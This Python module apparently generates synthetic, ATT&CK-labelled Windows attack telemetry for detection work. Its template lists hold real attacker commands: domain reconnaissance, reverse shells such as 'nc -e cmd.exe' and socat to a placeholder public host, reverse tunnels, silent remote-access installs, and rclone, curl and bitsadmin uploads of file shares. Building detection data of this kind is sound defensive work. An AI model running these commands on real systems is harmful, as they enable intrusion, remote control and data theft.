"""Looking around after a break-in, and the ways out: remote control, tunnels, stolen data."""

from __future__ import annotations

from generator.families.windows.command_story import command_story, image_of
from generator.families.windows.desk import Desk
from generator.scene import Scene, attack, family
from generator.world import World

STRANGE = ("@tmp@@word@.exe", "rundll32.exe", "powershell.exe", "WINWORD.EXE", "w3wp.exe", "regsvr32.exe", "mshta.exe", "wscript.exe", "sqlservr.exe", "@tmp@@word@.exe", "C:\\Users\\@user@\\AppData\\Roaming\\@Word@\\@word@.exe")
LOOK = (
    "whoami /all", "whoami.exe /groups", "whoami /priv", "net user /domain", "net1 user @user@ /domain", "net group \"Domain Admins\" /domain", "net group \"Enterprise Admins\" /dom", "net localgroup administrators", "net view /all /domain", "net view \\\\@dc@", "nltest /domain_trusts /all_trusts", "nltest /dclist:@fqdn@", "nltest.exe /dsgetdc:", "systeminfo", "ipconfig /all", "arp -a", "route print", "netstat -ano", "tasklist /v", "tasklist /svc", "qwinsta", "query user", "quser /server:@dc@", "wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName /format:list", "wmic computersystem get domain", "dsquery group -name \"Domain Admins\"", "cmd /c dir /s /b C:\\Users\\*pass*", "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\" /s", "net accounts /domain", "net share", "net config workstation", "nslookup -type=any _ldap._tcp.dc._msdcs.@fqdn@", "cmd.exe /c set", "klist", "hostname", "gpresult /z", "netsh firewall show state", "driverquery /v", "sc query type= service", "fsutil fsinfo drives", "echo %LOGONSERVER%",
)


@family("windows/look-around-after-entry", attack=True, weight=2)
def look_around(world: World) -> Scene:
    """Several questions about users, domain and network, asked by a program that doesn't ask such things."""
    desk = Desk(world)
    label = attack("Discovery", world.pick(["T1033", "T1082", "T1087.002", "T1482", "T1016"]), "T1069.002", severity="MEDIUM")
    parent = desk.fill(world.pick(STRANGE))
    user = world.pick([None, None, "SYSTEM"])
    for command in world.some(LOOK, 2, 9):
        text = desk.fill(command)
        if world.chance(0.4):
            text = world.pick(["cmd.exe /c ", "C:\\Windows\\system32\\cmd.exe /C "]) + text + desk.fill(world.pick(["", " >> @tmp@@word@.txt", " > C:\\Windows\\Temp\\@word@.tmp 2>&1"]))
        desk.process(label, image_of(text.split(" >>")[0] if not text.startswith("echo") else "cmd.exe"), text, parent, user=user)
    return desk.scene


command_story("directory-mapping-tools", attack("Discovery", "T1087.002", "T1482", "T1018"), (
    "@tmp@AdFind.exe -f \"(objectcategory=person)\" > ad_users.txt", "adfind.exe -f objectcategory=computer -csv name operatingSystem", "@tmp@@word@.exe -gcb -sc trustdmp > trustdmp.txt", "adfind -sc dclist", "@tmp@SharpHound.exe -c All --zipfilename @word@.zip", "SharpHound.exe --CollectionMethods DCOnly,Session --domain @fqdn@ --outputdirectory @tmp@", "@tmp@@word@.exe -c all,gpolocalgroup --stealth", "@tmp@Seatbelt.exe -group=all -outputfile=@tmp@@word@.txt", "winPEASx64.exe quiet log=@word@.txt", "@tmp@SharpUp.exe audit", "netscan.exe /hide /auto:@word@.xml /range:@ip@-@ip@", "\"C:\\Users\\@user@\\Downloads\\advanced_port_scanner_2.5.exe\" /portable \"C:\\Users\\@user@\\AppData\\Local\\Temp\\\"", "@tmp@nbtscan.exe @ip@/24", "@tmp@PingCastle.exe --healthcheck --server @fqdn@ --no-enum-limit", "@tmp@ADRecon.exe -OutputType CSV", "csvde -f @tmp@@word@.csv -r \"(objectClass=user)\"", "ldifde -f @tmp@out.ldf -d DC=@company@,DC=local", "cmd /c for /L %i in (1,1,254) do @ping -n 1 -w 100 192.168.@n@.%i | find \"TTL\"", "powershell -ep bypass -c \"1..254|%{if(Test-Connection 10.@n@.@n@.$_ -Count 1 -Quiet){$_}}; 1..1024|%{echo ((New-Object Net.Sockets.TcpClient).Connect('@ip@',$_))}\"", "@tmp@snaffler.exe -s -o @word@.log", "@tmp@ShareFinder.exe", "@tmp@everything.exe -startup",
), is_attack=True, most=3)
command_story("remote-control-and-tunnels", attack("Command and Control", "T1219", "T1572"), (
    "@tmp@AnyDesk.exe --install \"C:\\ProgramData\\AnyDesk\" --start-with-win --silent", "cmd.exe /c echo @pw@ | C:\\ProgramData\\anydesk.exe --set-password", "@tmp@ngrok.exe tcp 3389", "ngrok.exe authtoken @hex@@hex@_@hex@", "@tmp@@word@.exe http --url=@word@ 8080 --authtoken @hex@@hex@", "@tmp@chisel.exe client @pub@:«8080|443» R:socks", "@tmp@@word@.exe client --max-retry-interval 10s https://@pub@ R:1080:socks", "plink.exe -ssh -R 33890:127.0.0.1:3389 root@@pub@ -pw @pw@ -batch", "ssh.exe -R 4444:localhost:3389 -N -f -o StrictHostKeyChecking=no @word@@@pub@", "@tmp@frpc.exe -c frpc.ini", "@tmp@ligolo-ng.exe -connect @pub@:11601 -ignore-cert", "netsh interface portproxy add v4tov4 listenport=«3340|8443» listenaddress=0.0.0.0 connectport=3389 connectaddress=@ip@", "msiexec /i @tmp@ScreenConnect.ClientSetup.msi /qn", "@tmp@rustdesk.exe --silent-install", "@tmp@gost.exe -L=socks5://:1080 -F=relay+tls://@pub@:443", "@tmp@nc.exe @any@ @port@ -e cmd.exe", "nc64.exe -lvp 4444 -e powershell", "@tmp@socat.exe TCP4:@pub@:443 EXEC:'cmd.exe',pipes", "cloudflared.exe tunnel --url rdp://localhost:3389 --no-autoupdate", "@tmp@revsocks.exe -connect @pub@:8443 -pass @word@", "code.exe tunnel --accept-server-license-terms --name @word@", "@tmp@tor.exe -f @tmp@torrc", "@tmp@svchost.exe -connect @pub@:443 -id @n@", "C:\\ProgramData\\@Word@\\client32.exe", "@tmp@atera_agent.exe /i /qn IntegratorLogin=@word@@gmail.com CompanyId=1"
), is_attack=True, most=2, parents=STRANGE + ("cmd.exe", "cmd.exe", "explorer.exe"))
command_story("data-packed-and-sent", attack("Potential Data Exfiltration", "T1567.002", "T1560.001", "T1048.003", severity="CRITICAL"), (
    "@tmp@rclone.exe copy \\\\@host@\\«Finance|HR|Shares|Data» «mega|remote|gdrive|pcloud»:@word@ --transfers 10 --no-check-certificate -q --ignore-existing", "@tmp@@word@.exe config create remote mega user @word@@proton.me pass @hex@", "svchost.exe copy D:\\Shares ftp1:@word@/ --max-age 3y --exclude \"*.{exe,dll}\" --multi-thread-streams 12", "\"C:\\Program Files\\WinRAR\\rar.exe\" a -hp@pw@ -m1 -v1g -r @tmp@@word@.rar \\\\@host@\\Finance\\*", "7z.exe a -t7z -p@pw@ -mhe=on -v500m @tmp@@word@.7z D:\\Kunden", "@tmp@7za.exe a -r -mx1 -p@pw@ @word@.zip C:\\Users\\*.pst C:\\Users\\*.docx", "curl.exe -F \"file=@@word@.zip\" https://«file.io|transfer.sh|gofile.io»/@word@", "curl -T @tmp@@word@.7z ftp://@pub@/@host@/ --user @word@:@pw@", "powershell -c \"Invoke-WebRequest -Uri @url@ -Method POST -InFile @tmp@@word@.zip\"", "@tmp@WinSCP.com /command \"open sftp://@word@:@pw@@pub@ -hostkey=*\" \"put D:\\Data\\* /in/\" exit", "@tmp@MEGAsync.exe --silent", "@tmp@restic.exe -r rest:http://@pub@:8000/ init --password-file pwd.txt", "@tmp@azcopy.exe copy \"E:\\Archiv\" \"https://@word@.blob.core.windows.net/@word@?sv=2023-01-03&sig=@hex@\" --recursive", "@tmp@pscp.exe -batch -pw @pw@ @word@.rar root@@pub@:/srv/", "certutil -encode customers.zip @word@.txt && ftp -s:@word@.scr @pub@", "powershell -w hidden -c \"Send-MailMessage -SmtpServer @pub@ -From a@b.c -To @word@@proton.me -Subject @me@ -Attachments @tmp@@word@.zip\"", "bitsadmin /transfer up /upload /priority foreground http://@pub@/@word@.7z @tmp@@word@.7z", "@tmp@FreeFileSync.exe @word@.ffs_batch", "@tmp@megacmd.exe put -c D:\\Buchhaltung /@me@"
), is_attack=True, most=2)


@family("windows/control-traffic", attack=True, weight=1.5)
def control_traffic(world: World) -> Scene:
    """Connections, names and pipes of remote control tools, as Sysmon sees them."""
    desk = Desk(world)
    label = attack("Command and Control", "T1071.001", "T1571", "T1573")
    program = desk.fill(world.pick(["@tmp@@word@.exe", "rundll32.exe", "regsvr32.exe", "mshta.exe", "C:\\Windows\\Temp\\svchost.exe", "notepad.exe", "C:\\Users\\@user@\\AppData\\Roaming\\@Word@\\@word@.exe", "powershell.exe", "MSBuild.exe", "wscript.exe", "C:\\Users\\Public\\@word@.scr", "certutil.exe", "werfault.exe", "dllhost.exe", "RegAsm.exe"]))
    kind = world.pick(["net", "net", "dns", "pipe", "both"])
    if kind in ("net", "both"):
        address, port = world.ip_public(), world.pick([443, 80, 4444, 8080, 8443, 1337, 9001, 6667, 5555, 50050, 31337, 2222, 7777])
        for _ in range(world.pick([1, 1, 3, 8])):
            desk.network(label, program, address, port, world.pick(["-", "-", f"{world.word()}.{world.pick(['xyz', 'top', 'com', 'ru'])}"]))
    if kind in ("dns", "both"):
        for name in world.some([f"{world.word(12)}.{world.pick(['top', 'xyz', 'cc', 'info'])}", "pastebin.com", "api.telegram.org", f"{world.word(5)}.duckdns.org", f"{world.word(6)}.trycloudflare.com", f"{world.number(0, 9)}.tcp.ngrok.io", f"{world.word(8)}.workers.dev", "discord.com", "api.ipify.org", "ip-api.com", f"{world.hex(16)}.{world.word(6)}.com", "cdn.discordapp.com", "raw.githubusercontent.com", f"{world.word(6)}.no-ip.biz"], 1, 3):
            desk.dns(label, program, name, f"::ffff:{world.ip_public()};")
    if kind == "pipe":
        names = ["\\MSSE-@pid@-server", "\\msagent_@n@", "\\postex_@hex@", "\\postex_ssh_@n@", "\\status_@n@", "\\mojo.5688.8052.@pid@@pid@@n@", "\\DserNamePipe@n@", "\\gruntsvc", "\\demoagent_11", "\\isapi_http", "\\spoolss_@n@", "\\wkssvc_@n@", "\\ntsvcs_@hex@", "\\@hex@", "\\6e7645c4-32c5-4fe3-aabf-e94c2f4370e7"]
        desk.pipe(attack("Command and Control", "T1071.001", "T1055"), program, desk.fill(world.pick(names)), world.chance(0.7))
    return desk.scene
